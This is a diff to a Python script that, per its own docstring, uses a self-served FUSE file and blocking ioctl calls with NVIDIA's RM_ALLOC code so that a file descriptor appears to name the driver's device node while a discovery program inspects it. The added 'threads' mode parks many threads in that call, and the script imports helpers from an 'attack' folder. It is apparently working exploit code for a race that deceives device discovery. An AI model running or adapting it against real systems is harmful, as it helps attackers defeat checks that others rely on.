@@ -2,9 +2,11 @@
 """A program that makes a channel on NVIDIA's driver, where there is no driver.
 
     program_of_driver.py FOLDER RELEASE [USER]
+    program_of_driver.py FOLDER threads NUMBER
 
 With a USER it makes a client alone, as that user.  When it is told to, by a line, it forks as many
-children as there are records in four megabytes; then it says so.
+children as there are records in four megabytes; then it says so.  With "threads" so many stay
+in such a call of a file that is not the driver's; it says so when they do.
 
 Its file is one that it serves itself (FUSE), so that the ioctl succeeds.  While the call is under way
 the descriptor comes to name a device node of the driver's number: the discovery program looks at
@@ -15,15 +17,17 @@ from __future__ import annotations
 
 import ctypes
 import os
+import signal
 import stat
 import struct
 import sys
 import threading
 from pathlib import Path
+from typing import NoReturn
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "attack"))
 
-from held import held_file  # noqa: E402
+from held import IOCTL, held_file  # noqa: E402
 
 RM_ALLOC = 0xC030462B
 #: what the channel has
@@ -45,10 +49,30 @@ def parameters(release: int) -> bytes:
     return bytes(data)
 
 
+def stay(folder: Path, count: int) -> NoReturn:
+    """So many threads are in a call that does not end."""
+    file = held_file(folder / "file", IOCTL)
+    libc, call = ctypes.CDLL(None), ctypes.create_string_buffer(64)
+    threading.stack_size(1 << 16)
+    for _ in range(count):
+        threading.Thread(
+            target=libc.ioctl, args=(file, ctypes.c_ulong(RM_ALLOC), call), daemon=True
+        ).start()
+    waiting = 0
+    while waiting < count:
+        tasks = Path("/proc/self/task").iterdir()
+        waiting = sum((task / "syscall").read_text().startswith("16 ") for task in tasks)
+    print("stay", flush=True)
+    while True:
+        signal.pause()
+
+
 def main() -> None:
     """Make the call."""
-    folder, release = Path(sys.argv[1]), int(sys.argv[2])
-    user = int(sys.argv[3]) if len(sys.argv) > 3 else None
+    folder = Path(sys.argv[1])
+    if sys.argv[2] == "threads":
+        stay(folder, int(sys.argv[3]))
+    release, user = int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else None
     asked, go = os.pipe(), os.pipe()
 
     def answer(given: bytes) -> bytes:
